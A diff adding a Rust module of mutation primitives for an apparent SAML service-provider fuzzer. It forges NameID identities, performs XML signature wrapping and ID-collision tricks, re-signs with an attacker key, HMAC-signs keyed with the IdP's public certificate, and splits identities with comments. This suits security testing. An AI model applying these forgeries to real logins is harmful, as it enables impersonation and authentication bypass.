@@ -1,0 +1,1107 @@
+//! The fuzzer's edit primitives: small changes to an IdP-signed response, as data, so a chain
+//! of them replays on any fresh login, shrinks one edit at a time and is written to a
+//! reproducer. Unlike the catalogue's recipes, no primitive names an attack: wrapping, moving,
+//! copying the signed element, re-parenting, prefix games and DOCTYPE pieces compose, and
+//! the SP's answer says what worked.
+
+use serde::{Deserialize, Serialize};
+
+use crate::bytes::{
+    self, after_name, after_start_tag, before_end_tag, insert, try_splice, Doc, Node,
+};
+use crate::forge::Skip;
+use crate::identity::{self, Swap};
+use saml_protocol::{ASSERTION_NS, DSIG_NS, PROTOCOL_NS};
+
+/// An element a primitive works on, found afresh in each document it edits.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum Target {
+    /// The root element.
+    Response,
+    /// The first `saml:Assertion` in document order.
+    Assertion,
+    /// The last `saml:Assertion` in document order.
+    LastAssertion,
+    /// The first Assertion's own `ds:Signature`.
+    AssertionSignature,
+    /// The root's own `ds:Signature`.
+    ResponseSignature,
+    /// The first Assertion's `Subject`.
+    Subject,
+    /// The first `NameID` in document order.
+    NameId,
+    /// The first `Issuer` in document order.
+    Issuer,
+    /// The first Assertion's `Conditions`.
+    Conditions,
+    /// The first `AttributeStatement`.
+    AttributeStatement,
+    /// The first `ds:SignedInfo`.
+    SignedInfo,
+    /// The first `ds:DigestValue`.
+    DigestValue,
+    /// The first `ds:KeyInfo`.
+    KeyInfo,
+    /// The Response's `samlp:Status`.
+    Status,
+}
+
+/// Where an inserted or moved element goes, relative to its anchor.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum Place {
+    /// Just before the anchor (a sibling).
+    Before,
+    /// Just after the anchor (a sibling).
+    After,
+    /// The anchor's new first child.
+    FirstChild,
+    /// The anchor's new last child.
+    LastChild,
+}
+
+/// What happens to a copy's `ID` attribute.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum IdChange {
+    /// The same ID as the original (an ID collision).
+    Keep,
+    /// A new ID.
+    Fresh,
+    /// The original's ID in another letter case.
+    CaseVariant,
+    /// No plain ID; the original's ID as `x:ID` in a namespace of its own (attribute
+    /// pollution: consumers that find "the element with that ID" by local name).
+    Namespaced,
+    /// No ID at all.
+    Remove,
+}
+
+/// An element a primitive wraps another one in.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum Wrapper {
+    /// `samlp:Extensions`.
+    Extensions,
+    /// `saml:Advice`.
+    Advice,
+    /// `ds:Object`.
+    Object,
+    /// An element of a namespace nobody knows.
+    Unknown,
+    /// An empty `ds:Signature` (verifiers that drop every Signature before digesting).
+    Signature,
+}
+
+/// What splits an identity value in two.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum Splitter {
+    /// `<!---->`
+    Comment,
+    /// `<?x?>`
+    ProcessingInstruction,
+    /// The rest as a CDATA section.
+    Cdata,
+    /// `&#46;` for the character at the split (a character reference).
+    CharacterReference,
+}
+
+/// An attribute added to an element's start tag.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum ExtraAttribute {
+    /// A second `ID` holding the signed ID (not well-formed: a duplicate attribute).
+    DuplicateId,
+    /// `x:ID` in a namespace of its own, holding the signed ID.
+    NamespacedId,
+    /// `xml:id` holding the signed ID.
+    XmlId,
+    /// `id` (lower case) holding the signed ID.
+    LowercaseId,
+    /// `xml:xmlns`, which namespace-aware parsers treat in different ways.
+    XmlXmlns,
+}
+
+/// A DOCTYPE put before the root.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum DoctypeKind {
+    /// `<!DOCTYPE samlp:Response>`.
+    Empty,
+    /// An internal subset declaring `ID` attributes as type ID.
+    AttlistId,
+    /// An internal subset declaring an entity that is not used.
+    UnusedEntity,
+}
+
+/// Where a recomputed digest goes.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum DigestPlacement {
+    /// In place of the first DigestValue's text (the SignatureValue no longer matches).
+    Replace,
+    /// As a comment before the first DigestValue's text, which canonicalization drops.
+    CommentFirst,
+    /// In a second `ds:Reference` inside a `samlp:StatusDetail`, earlier in the document.
+    StatusDetail,
+}
+
+/// A change to the document's bytes outside its elements.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum ByteEdit {
+    /// A UTF-8 byte order mark first.
+    Bom,
+    /// Whitespace before the root (and before the XML declaration, which makes it misplaced).
+    LeadingWhitespace,
+    /// A comment after the root.
+    TrailingComment,
+    /// Text after the root (not well-formed).
+    TrailingText,
+}
+
+/// One primitive edit.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case", tag = "edit")]
+pub enum Mutation {
+    /// Rewrite every identity value inside `within` to the target identity's.
+    ForgeIdentity {
+        /// Where.
+        within: Target,
+    },
+    /// Insert a copy of `what` at `place` relative to `anchor`; a `forged` copy carries the
+    /// target identity and none of its own enveloped Signature.
+    Copy {
+        /// The element copied.
+        what: Target,
+        /// Whether the copy's identity values are the target's.
+        forged: bool,
+        /// What happens to the copy's ID.
+        id: IdChange,
+        /// Where the copy goes.
+        place: Place,
+        /// Relative to which element.
+        anchor: Target,
+    },
+    /// Move `what` to `place` relative to `anchor`.
+    Move {
+        /// The element moved.
+        what: Target,
+        /// Where it goes.
+        place: Place,
+        /// Relative to which element.
+        anchor: Target,
+    },
+    /// Wrap `what` in a `wrapper` element.
+    Wrap {
+        /// The element wrapped.
+        what: Target,
+        /// The wrapper.
+        wrapper: Wrapper,
+    },
+    /// Remove `what`.
+    Remove {
+        /// The element removed.
+        what: Target,
+    },
+    /// Re-sign every Signature with the attacker's own key, its certificate in KeyInfo.
+    SelfSign,
+    /// "Sign" the first Signature with HMAC-SHA256 keyed with the certificate in the
+    /// document's KeyInfo (public, so anyone can), its digest recomputed and KeyInfo dropped.
+    HmacSign,
+    /// Recompute the digest of what the first Reference points at, as the document now is,
+    /// and put it `into` a place some verifiers read it from.
+    Redigest {
+        /// Where.
+        into: DigestPlacement,
+    },
+    /// Split the first NameID's value with `with`; what comes before the split is the
+    /// identity a parser that reads one text node sees.
+    SplitIdentity {
+        /// What splits it.
+        with: Splitter,
+    },
+    /// Add an attribute to `on`.
+    Attribute {
+        /// The element.
+        on: Target,
+        /// The attribute.
+        attribute: ExtraAttribute,
+    },
+    /// Put a DOCTYPE before the root.
+    Doctype {
+        /// Which one.
+        kind: DoctypeKind,
+    },
+    /// Change the bytes around the root.
+    Bytes {
+        /// How.
+        kind: ByteEdit,
+    },
+}
+
+/// How the IdP signs the seed a chain starts from (Entra's "Signing Option").
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum SeedSigning {
+    /// "Sign SAML assertion", Entra's default.
+    Assertion,
+    /// "Sign SAML response".
+    Response,
+    /// "Sign SAML response and assertion".
+    Both,
+}
+
+/// A fuzz case: the seed's signing and the edits, applied in order.
+#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Chain {
+    /// How the seed is signed.
+    pub seed: SeedSigning,
+    /// The edits.
+    pub edits: Vec<Mutation>,
+}
+
+/// A chain applied to one seed.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Applied {
+    /// The edited document.
+    pub xml: String,
+    /// What the edits did to identity.
+    pub swap: Swap,
+    /// For each edit, whether it changed anything (an edit whose element is missing, or
+    /// that needs a well-formed document after an earlier edit broke it, does nothing).
+    pub took_effect: Vec<bool>,
+    /// Whether the result is one the specs say must be refused whoever it names: not
+    /// well-formed (namespaces included), or carrying a DTD. Accepting it is `nonstrict`.
+    pub spec_invalid: bool,
+}
+
+impl Chain {
+    /// Applies the edits to `seed` in order.
+    pub fn apply(&self, seed: &str) -> Applied {
+        let mut xml = seed.to_owned();
+        let mut swap = Swap::default();
+        let mut took_effect = Vec::with_capacity(self.edits.len());
+        for m in &self.edits {
+            match m.apply(&xml) {
+                Ok((next, s)) if next != xml => {
+                    xml = next;
+                    merge(&mut swap, s);
+                    took_effect.push(true);
+                }
+                _ => took_effect.push(false),
+            }
+        }
+        Applied {
+            spec_invalid: spec_invalid(&xml),
+            xml,
+            swap,
+            took_effect,
+        }
+    }
+
+    /// The edits, one line each, for people.
+    pub fn describe(&self) -> String {
+        let edits: Vec<String> = self.edits.iter().map(|m| m.to_string()).collect();
+        format!("seed signed: {:?}; {}", self.seed, edits.join("; "))
+    }
+}
+
+fn merge(into: &mut Swap, from: Swap) {
+    for g in from.genuine {
+        if !into.genuine.contains(&g) {
+            into.genuine.push(g);
+        }
+    }
+    for f in from.forged {
+        if !into.forged.contains(&f) {
+            into.forged.push(f);
+        }
+    }
+}
+
+impl std::fmt::Display for Mutation {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Mutation::ForgeIdentity { within } => write!(f, "forge the identity in {within:?}"),
+            Mutation::Copy {
+                what,
+                forged,
+                id,
+                place,
+                anchor,
+            } => write!(
+                f,
+                "copy {what:?}{} (ID {id:?}) {place:?} {anchor:?}",
+                if *forged { " forged" } else { "" }
+            ),
+            Mutation::Move {
+                what,
+                place,
+                anchor,
+            } => write!(f, "move {what:?} {place:?} {anchor:?}"),
+            Mutation::Wrap { what, wrapper } => write!(f, "wrap {what:?} in {wrapper:?}"),
+            Mutation::Remove { what } => write!(f, "remove {what:?}"),
+            Mutation::SelfSign => f.write_str("re-sign with the attacker's key"),
+            Mutation::HmacSign => f.write_str("HMAC-sign keyed with the IdP certificate"),
+            Mutation::Redigest { into } => write!(f, "recompute the digest into {into:?}"),
+            Mutation::SplitIdentity { with } => write!(f, "split the NameID with a {with:?}"),
+            Mutation::Attribute { on, attribute } => write!(f, "add {attribute:?} to {on:?}"),
+            Mutation::Doctype { kind } => write!(f, "DOCTYPE {kind:?}"),
+            Mutation::Bytes { kind } => write!(f, "bytes: {kind:?}"),
+        }
+    }
+}
+
+type Outcome = Result<(String, Swap), Skip>;
+
+fn missing(what: Target) -> Skip {
+    Skip::NotApplicable(format!("no {what:?} in the document"))
+}
+
+/// Whether `xml` is not namespace-well-formed XML 1.0 (a UTF-8 byte order mark allowed), or
+/// carries a DTD, which SAML's XML Signature profile forbids: roxmltree is a strict,
+/// non-validating parser that loads nothing.
+pub fn spec_invalid(xml: &str) -> bool {
+    let xml = xml.strip_prefix('\u{feff}').unwrap_or(xml);
+    match roxmltree::Document::parse(xml) {
+        Err(_) => true,
+        Ok(doc) => xml[..doc.root_element().range().start].contains("<!DOCTYPE"),
+    }
+}
+
+impl Mutation {
+    /// This edit on `xml`: the new document and what it did to identity.
+    pub fn apply(&self, xml: &str) -> Outcome {
+        match *self {
+            Mutation::Bytes { kind } => return Ok((bytes_edit(xml, kind), Swap::default())),
+            Mutation::SelfSign => return self_sign(xml),
+            Mutation::HmacSign => return hmac_sign(xml),
+            Mutation::Redigest { into } => return redigest(xml, into),
+            _ => {}
+        }
+        let doc = Doc::parse(xml)?;
+        let find = |t: Target| resolve(&doc, t).ok_or_else(|| missing(t));
+        match *self {
+            Mutation::ForgeIdentity { within } => {
+                let node = find(within)?;
+                let (edits, swap) =
+                    identity::rewrite_edits(&doc, node.range(), &identity::forger(&doc));
+                Ok((try_splice(xml, edits)?, swap))
+            }
+            Mutation::Copy {
+                what,
+                forged,
+                id,
+                place,
+                anchor,
+            } => {
+                let (node, at) = (find(what)?, find(anchor)?);
+                let (copy, swap) = copy_of(&doc, node, forged, id)?;
+                Ok((
+                    try_splice(xml, vec![insert(position(&doc, at, place), copy)])?,
+                    swap,
+                ))
+            }
+            Mutation::Move {
+                what,
+                place,
+                anchor,
+            } => {
+                let (node, at) = (find(what)?, find(anchor)?);
+                if at.ancestors().any(|a| a == node) || node == doc.root() {
+                    return Err(Skip::NotApplicable(
+                        "cannot move an element into itself, or the root".into(),
+                    ));
+                }
+                let to = position(&doc, at, place);
+                let edits = vec![(node.range(), String::new()), insert(to, doc.outer(node))];
+                Ok((try_splice(xml, edits)?, Swap::default()))
+            }
+            Mutation::Wrap { what, wrapper } => {
+                let node = find(what)?;
+                let (open, close) = wrapper_tags(wrapper);
+                let wrapped = format!("{open}{}{close}", doc.outer(node));
+                Ok((
+                    try_splice(xml, vec![(node.range(), wrapped)])?,
+                    Swap::default(),
+                ))
+            }
+            Mutation::Remove { what } => {
+                let node = find(what)?;
+                if node == doc.root() {
+                    return Err(Skip::NotApplicable("the root stays".into()));
+                }
+                Ok((
+                    try_splice(xml, vec![(node.range(), String::new())])?,
+                    Swap::default(),
+                ))
+            }
+            Mutation::SplitIdentity { with } => split_identity(&doc, with),
+            Mutation::Attribute { on, attribute } => {
+                let node = find(on)?;
+                let own = node.attribute("ID").unwrap_or("id0");
+                // The ID the first Reference signs: the value worth claiming elsewhere.
+                let signed = doc
+                    .tree
+                    .descendants()
+                    .find(|n| n.has_tag_name((DSIG_NS, "Reference")))
+                    .and_then(|r| r.attribute("URI"))
+                    .and_then(|u| u.strip_prefix('#'))
+                    .unwrap_or(own);
+                let text = match attribute {
+                    ExtraAttribute::DuplicateId => format!(" ID=\"{signed}\""),
+                    ExtraAttribute::NamespacedId => {
+                        format!(" xmlns:fz=\"urn:fuzz\" fz:ID=\"{signed}\"")
+                    }
+                    ExtraAttribute::XmlId => format!(" xml:id=\"{signed}\""),
+                    ExtraAttribute::LowercaseId => format!(" id=\"{signed}\""),
+                    ExtraAttribute::XmlXmlns => format!(" xml:xmlns=\"{ASSERTION_NS}\""),
+                };
+                Ok((
+                    try_splice(xml, vec![insert(after_name(xml, node), text)])?,
+                    Swap::default(),
+                ))
+            }
+            Mutation::Doctype { kind } => {
+                let root = doc.root();
+                let name = bytes::qualified_name(xml, root);
+                let subset = match kind {
+                    DoctypeKind::Empty => String::new(),
+                    DoctypeKind::AttlistId => {
+                        " [<!ATTLIST saml:Assertion ID ID #IMPLIED><!ATTLIST Assertion ID ID #IMPLIED>]"
+                            .to_owned()
+                    }
+                    DoctypeKind::UnusedEntity => " [<!ENTITY fz \"fuzz\">]".to_owned(),
+                };
+                let at = root.range().start;
+                Ok((
+                    try_splice(xml, vec![insert(at, format!("<!DOCTYPE {name}{subset}>"))])?,
+                    Swap::default(),
+                ))
+            }
+            Mutation::Bytes { .. }
+            | Mutation::SelfSign
+            | Mutation::HmacSign
+            | Mutation::Redigest { .. } => unreachable_edit(),
+        }
+    }
+}
+
+/// The two edits handled before parsing never reach the parsed path.
+fn unreachable_edit() -> Outcome {
+    Err(Skip::Failed("handled before parsing".into()))
+}
+
+/// The element `target` names in `doc`.
+pub fn resolve<'d, 'a>(doc: &'d Doc<'a>, target: Target) -> Option<Node<'d, 'a>> {
+    let first = |ns: &str, name: &str| doc.tree.descendants().find(|n| n.has_tag_name((ns, name)));
+    let assertion = || first(ASSERTION_NS, "Assertion");
+    let in_assertion = |name: &str| {
+        assertion()?
+            .descendants()
+            .find(|n| n.has_tag_name((ASSERTION_NS, name)))
+    };
+    match target {
+        Target::Response => Some(doc.root()),
+        Target::Assertion => assertion(),
+        Target::LastAssertion => doc
+            .tree
+            .descendants()
+            .rfind(|n| n.has_tag_name((ASSERTION_NS, "Assertion"))),
+        Target::AssertionSignature => bytes::signature_of(assertion()?),
+        Target::ResponseSignature => bytes::signature_of(doc.root()),
+        Target::Subject => in_assertion("Subject"),
+        Target::NameId => first(ASSERTION_NS, "NameID"),
+        Target::Issuer => first(ASSERTION_NS, "Issuer"),
+        Target::Conditions => in_assertion("Conditions"),
+        Target::AttributeStatement => first(ASSERTION_NS, "AttributeStatement"),
+        Target::SignedInfo => first(DSIG_NS, "SignedInfo"),
+        Target::DigestValue => first(DSIG_NS, "DigestValue"),
+        Target::KeyInfo => first(DSIG_NS, "KeyInfo"),
+        Target::Status => first(PROTOCOL_NS, "Status"),
+    }
+}
+
+/// The byte offset `place` names relative to `anchor`.
+fn position(doc: &Doc, anchor: Node, place: Place) -> usize {
+    match place {
+        Place::Before => anchor.range().start,
+        Place::After => anchor.range().end,
+        Place::FirstChild => after_start_tag(doc.src, anchor),
+        Place::LastChild => before_end_tag(doc.src, anchor),
+    }
+}
+
+/// A copy of `node`: forged (target identity, its own enveloped signature gone) or verbatim,
+/// its ID changed as `id` says.
+fn copy_of(doc: &Doc, node: Node, forged: bool, id: IdChange) -> Result<(String, Swap), Skip> {
+    let range = node.range();
+    let (mut edits, swap) = if forged {
+        identity::rewrite_edits(doc, range.clone(), &identity::forger(doc))
+    } else {
+        (Vec::new(), Swap::default())
+    };
+    if forged {
+        if swap.forged.is_empty() {
+            return Err(Skip::NotApplicable(format!(
+                "no identity value in {} to forge",
+                node.tag_name().name()
+            )));
+        }
+        if let Some(sig) = bytes::signature_of(node) {
+            // Whatever an earlier edit put inside the Signature goes with it.
+            let cut = sig.range();
+            edits.retain(|(r, _)| !(cut.start <= r.start && r.end <= cut.end));
+            edits.push((cut, String::new()));
+        }
+    }
+    if let Some(value) = bytes::attr_value(node, "ID") {
+        let own = &doc.src[value.clone()];
+        match id {
+            IdChange::Keep => {}
+            IdChange::Fresh => edits.push((value, format!("{own}-fz"))),
+            IdChange::CaseVariant => edits.push((value, swap_case(own))),
+            IdChange::Remove | IdChange::Namespaced => {
+                let attr = node
+                    .attributes()
+                    .find(|a| a.name() == "ID" && a.namespace().is_none())
+                    .map(|a| a.range());
+                let replacement = match id {
+                    IdChange::Namespaced => {
+                        format!("xmlns:fz=\"urn:fuzz\" fz:ID=\"{own}\"")
+                    }
+                    _ => String::new(),
+                };
+                if let Some(attr) = attr {
+                    edits.push((attr, replacement));
+                }
+            }
+        }
+    }
+    if bytes::overlapping(&edits) {
+        return Err(Skip::NotApplicable(
+            "the edits overlap in this document".into(),
+        ));
+    }
+    Ok((crate::family::cut(doc.src, range, edits), swap))
+}
+
+fn swap_case(s: &str) -> String {
+    s.chars()
+        .map(|c| {
+            if c.is_ascii_lowercase() {
+                c.to_ascii_uppercase()
+            } else {
+                c.to_ascii_lowercase()
+            }
+        })
+        .collect()
+}
+
+fn wrapper_tags(wrapper: Wrapper) -> (String, String) {
+    match wrapper {
+        Wrapper::Extensions => (
+            format!("<samlp:Extensions xmlns:samlp=\"{PROTOCOL_NS}\">"),
+            "</samlp:Extensions>".into(),
+        ),
+        Wrapper::Advice => (
+            format!("<saml:Advice xmlns:saml=\"{ASSERTION_NS}\">"),
+            "</saml:Advice>".into(),
+        ),
+        Wrapper::Object => (
+            format!("<ds:Object xmlns:ds=\"{DSIG_NS}\">"),
+            "</ds:Object>".into(),
+        ),
+        Wrapper::Unknown => (
+            "<fz:Wrapper xmlns:fz=\"urn:fuzz\">".into(),
+            "</fz:Wrapper>".into(),
+        ),
+        Wrapper::Signature => (
+            format!("<ds:Signature xmlns:ds=\"{DSIG_NS}\">"),
+            "</ds:Signature>".into(),
+        ),
+    }
+}
+
+/// Splits the first NameID's text: the part before the split (before `@`, or the first half)
+/// is what a parser that reads only the first text node sees.
+fn split_identity(doc: &Doc, with: Splitter) -> Outcome {
+    let name_id = resolve(doc, Target::NameId).ok_or_else(|| missing(Target::NameId))?;
+    let text = name_id
+        .first_child()
+        .filter(|c| c.is_text())
+        .ok_or_else(|| Skip::NotApplicable("the NameID has no text to split".into()))?;
+    let value = &doc.src[text.range()];
+    if value.contains('&') || value.chars().count() < 2 {
+        return Err(Skip::NotApplicable("the NameID cannot be split".into()));
+    }
+    let at = value.find('@').filter(|i| *i > 0).unwrap_or_else(|| {
+        value
+            .char_indices()
+            .nth(value.chars().count() / 2)
+            .map_or(1, |(i, _)| i)
+    });
+    let (head, tail) = value.split_at(at);
+    let split = match with {
+        Splitter::Comment => format!("{head}<!---->{tail}"),
+        Splitter::ProcessingInstruction => format!("{head}<?fz?>{tail}"),
+        Splitter::Cdata => format!("{head}<![CDATA[{tail}]]>"),
+        Splitter::CharacterReference => {
+            let mut chars = tail.chars();
+            let first = chars.next().unwrap_or('.');
+            format!("{head}&#{};{}", first as u32, chars.as_str())
+        }
+    };
+    let swap = Swap {
+        genuine: vec![value.trim().to_owned()],
+        forged: vec![head.trim().to_owned()],
+    };
+    Ok((try_splice(doc.src, vec![(text.range(), split)])?, swap))
+}
+
+fn self_sign(xml: &str) -> Outcome {
+    let cert = crate::crypto::attacker_cert(None)?;
+    let key_info = crate::crypto::key_info_x509(&cert)?;
+    let signed = crate::crypto::resign(xml, crate::crypto::attacker_key()?, Some(&key_info))?;
+    Ok((signed, Swap::default()))
+}
+
+/// The digest of what the first Reference points at, as the document now is.
+fn current_digest(doc: &Doc) -> Result<String, Skip> {
+    let reference = doc
+        .tree
+        .descendants()
+        .find(|n| n.has_tag_name((DSIG_NS, "Reference")))
+        .ok_or_else(|| Skip::NotApplicable("no Reference".into()))?;
+    let id = reference
+        .attribute("URI")
+        .and_then(|u| u.strip_prefix('#'))
+        .ok_or_else(|| Skip::NotApplicable("the Reference names no #ID".into()))?;
+    let method = reference
+        .children()
+        .find(|n| n.has_tag_name((DSIG_NS, "DigestMethod")))
+        .and_then(|n| n.attribute("Algorithm"))
+        .map_or(
+            openssl::hash::MessageDigest::sha256(),
+            crate::crypto::digest_method,
+        );
+    crate::crypto::reference_digest(doc.src, id, method)
+}
+
+/// The text range of the first `ds:` element called `name`.
+fn text_range(doc: &Doc, name: &str) -> Result<std::ops::Range<usize>, Skip> {
+    let node = doc
+        .tree
+        .descendants()
+        .find(|n| n.has_tag_name((DSIG_NS, name)))
+        .ok_or_else(|| Skip::NotApplicable(format!("no {name}")))?;
+    Ok(after_start_tag(doc.src, node)..before_end_tag(doc.src, node))
+}
+
+fn redigest(xml: &str, into: DigestPlacement) -> Outcome {
+    let doc = Doc::parse(xml)?;
+    let digest = current_digest(&doc)?;
+    let value = text_range(&doc, "DigestValue")?;
+    let edit = match into {
+        DigestPlacement::Replace => (value, digest),
+        DigestPlacement::CommentFirst => insert(value.start, format!("<!--{digest}-->")),
+        DigestPlacement::StatusDetail => {
+            let status = resolve(&doc, Target::Status).ok_or_else(|| missing(Target::Status))?;
+            let uri = doc
+                .tree
+                .descendants()
+                .find(|n| n.has_tag_name((DSIG_NS, "Reference")))
+                .and_then(|r| r.attribute("URI"))
+                .unwrap_or_default();
+            insert(
+                before_end_tag(xml, status),
+                format!(
+                    "<samlp:StatusDetail xmlns:samlp=\"{PROTOCOL_NS}\"><ds:Reference xmlns:ds=\"{DSIG_NS}\" URI=\"{}\"><ds:DigestValue>{digest}</ds:DigestValue></ds:Reference></samlp:StatusDetail>",
+                    bytes::escape(uri)
+                ),
+            )
+        }
+    };
+    Ok((try_splice(xml, vec![edit])?, Swap::default()))
+}
+
+/// HMAC-SHA256 over the first SignedInfo, keyed with the PEM of the document's certificate.
+fn hmac_sign(xml: &str) -> Outcome {
+    use base64::Engine as _;
+    const HMAC_SHA256: &str = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256";
+    let doc = Doc::parse(xml)?;
+    let cert = crate::crypto::seed_certificate(&doc)?;
+    let method = doc
+        .tree
+        .descendants()
+        .find(|n| n.has_tag_name((DSIG_NS, "SignatureMethod")))
+        .and_then(|m| bytes::attr_value(m, "Algorithm"))
+        .ok_or_else(|| Skip::NotApplicable("no SignatureMethod".into()))?;
+    let mut edits = vec![
+        (method, HMAC_SHA256.to_owned()),
+        (text_range(&doc, "DigestValue")?, current_digest(&doc)?),
+    ];
+    let signature = doc
+        .tree
+        .descendants()
+        .find(|n| n.has_tag_name((DSIG_NS, "Signature")))
+        .ok_or_else(|| Skip::NotApplicable("no Signature".into()))?;
+    if let Some(key_info) = bytes::child(signature, DSIG_NS, "KeyInfo") {
+        edits.push((key_info.range(), String::new()));
+    }
+    let xml = try_splice(xml, edits)?;
+    let pem = cert
+        .to_pem()
+        .map_err(|e| Skip::Failed(format!("cannot encode the certificate: {e}")))?;
+    let mac = crate::crypto::hmac(
+        openssl::hash::MessageDigest::sha256(),
+        &pem,
+        crate::crypto::signed_info_c14n(&xml, 0)?.as_bytes(),
+    )?;
+    let doc = Doc::parse(&xml)?;
+    let value = text_range(&doc, "SignatureValue")?;
+    let encoded = base64::engine::general_purpose::STANDARD.encode(mac);
+    Ok((try_splice(&xml, vec![(value, encoded)])?, Swap::default()))
+}
+
+fn bytes_edit(xml: &str, kind: ByteEdit) -> String {
+    match kind {
+        ByteEdit::Bom => format!("\u{feff}{xml}"),
+        ByteEdit::LeadingWhitespace => format!("\n {xml}"),
+        ByteEdit::TrailingComment => format!("{xml}<!---->"),
+        ByteEdit::TrailingText => format!("{xml}fz"),
+    }
+}
+
+/// Draws chains from a seeded generator: the same seed gives the same chains.
+pub struct Generator {
+    rng: fastrand::Rng,
+}
+
+const STRUCTURAL: [Target; 14] = [
+    Target::Response,
+    Target::Assertion,
+    Target::LastAssertion,
+    Target::AssertionSignature,
+    Target::ResponseSignature,
+    Target::Subject,
+    Target::NameId,
+    Target::Issuer,
+    Target::Conditions,
+    Target::AttributeStatement,
+    Target::SignedInfo,
+    Target::DigestValue,
+    Target::KeyInfo,
+    Target::Status,
+];
+
+impl Generator {
+    /// A generator seeded with `seed`.
+    pub fn new(seed: u64) -> Self {
+        Generator {
+            rng: fastrand::Rng::with_seed(seed),
+        }
+    }
+
+    fn pick<T: Copy>(&mut self, from: &[T]) -> T {
+        from[self.rng.usize(..from.len())]
+    }
+
+    /// Elements worth copying or moving: mostly the signed ones and their identity.
+    fn carried(&mut self) -> Target {
+        self.pick(&[
+            Target::Assertion,
+            Target::Assertion,
+            Target::Assertion,
+            Target::LastAssertion,
+            Target::Response,
+            Target::Response,
+            Target::AssertionSignature,
+            Target::ResponseSignature,
+            Target::Subject,
+            Target::NameId,
+            Target::AttributeStatement,
+            Target::SignedInfo,
+            Target::DigestValue,
+        ])
+    }
+
+    fn place(&mut self) -> Place {
+        self.pick(&[
+            Place::Before,
+            Place::After,
+            Place::FirstChild,
+            Place::LastChild,
+        ])
+    }
+
+    /// One edit.
+    pub fn mutation(&mut self) -> Mutation {
+        match self.rng.u32(..100) {
+            0..=29 => {
+                let what = self.carried();
+                Mutation::Copy {
+                    what,
+                    forged: self.rng.u32(..4) != 0,
+                    id: self.pick(&[
+                        IdChange::Keep,
+                        IdChange::Fresh,
+                        IdChange::CaseVariant,
+                        IdChange::Namespaced,
+                        IdChange::Remove,
+                    ]),
+                    place: self.place(),
+                    anchor: self.anchor(what),
+                }
+            }
+            30..=39 => Mutation::ForgeIdentity {
+                within: self.pick(&[
+                    Target::Response,
+                    Target::Assertion,
+                    Target::LastAssertion,
+                    Target::Subject,
+                    Target::NameId,
+                    Target::AttributeStatement,
+                ]),
+            },
+            40..=44 => Mutation::Redigest {
+                into: self.pick(&[
+                    DigestPlacement::Replace,
+                    DigestPlacement::CommentFirst,
+                    DigestPlacement::StatusDetail,
+                ]),
+            },
+            45..=54 => {
+                let what = self.carried();
+                Mutation::Move {
+                    what,
+                    place: self.place(),
+                    anchor: self.anchor(what),
+                }
+            }
+            55..=62 => Mutation::Wrap {
+                what: self.carried(),
+                wrapper: self.pick(&[
+                    Wrapper::Extensions,
+                    Wrapper::Advice,
+                    Wrapper::Object,
+                    Wrapper::Unknown,
+                    Wrapper::Signature,
+                ]),
+            },
+            63..=70 => Mutation::Remove {
+                what: self.pick(&STRUCTURAL),
+            },
+            71..=73 => Mutation::SelfSign,
+            74..=75 => Mutation::HmacSign,
+            76..=82 => Mutation::SplitIdentity {
+                with: self.pick(&[
+                    Splitter::Comment,
+                    Splitter::ProcessingInstruction,
+                    Splitter::Cdata,
+                    Splitter::CharacterReference,
+                ]),
+            },
+            83..=90 => Mutation::Attribute {
+                on: self.carried(),
+                attribute: self.pick(&[
+                    ExtraAttribute::DuplicateId,
+                    ExtraAttribute::NamespacedId,
+                    ExtraAttribute::XmlId,
+                    ExtraAttribute::LowercaseId,
+                    ExtraAttribute::XmlXmlns,
+                ]),
+            },
+            91..=95 => Mutation::Doctype {
+                kind: self.pick(&[
+                    DoctypeKind::Empty,
+                    DoctypeKind::AttlistId,
+                    DoctypeKind::UnusedEntity,
+                ]),
+            },
+            _ => Mutation::Bytes {
+                kind: self.pick(&[
+                    ByteEdit::Bom,
+                    ByteEdit::LeadingWhitespace,
+                    ByteEdit::TrailingComment,
+                    ByteEdit::TrailingText,
+                ]),
+            },
+        }
+    }
+
+    /// Half the time the element itself (a copy or move next to the original, the classic
+    /// wrapping shapes), else any element.
+    fn anchor(&mut self, what: Target) -> Target {
+        if self.rng.bool() {
+            what
+        } else {
+            self.pick(&STRUCTURAL)
+        }
+    }
+
+    /// One chain of 1–4 edits. Edits that break well-formedness go last, so the structural
+    /// ones before them still find their elements; re-signing goes after the edits it covers.
+    pub fn chain(&mut self) -> Chain {
+        let seed = self.pick(&[
+            SeedSigning::Assertion,
+            SeedSigning::Assertion,
+            SeedSigning::Response,
+            SeedSigning::Both,
+        ]);
+        let n = 1 + self.rng.usize(..4);
+        let mut edits: Vec<Mutation> = (0..n).map(|_| self.mutation()).collect();
+        order(&mut edits);
+        Chain { seed, edits }
+    }
+
+    /// A number below `n` (at least 1), for callers choosing among their own things.
+    pub fn index(&mut self, n: usize) -> usize {
+        self.rng.usize(..n.max(1))
+    }
+
